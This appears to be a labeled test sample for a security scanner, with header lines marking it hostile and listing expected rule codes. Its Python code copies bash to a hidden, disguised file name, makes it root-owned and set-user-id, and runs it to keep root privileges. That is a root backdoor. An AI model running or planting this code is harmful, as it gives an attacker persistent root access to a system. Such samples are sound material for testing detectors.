# label: hostile
# expect: V103 V201
# note: Makes a set-user-id copy of a shell for later.
# allow: V101
import os, shutil

dst = "/usr/local/bin/.dbus-launch"
shutil.copy2("/bin/bash", dst)
os.chown(dst, 0, 0)
os.chmod(dst, 0o4755)
os.execv(dst, [dst, "-p"])
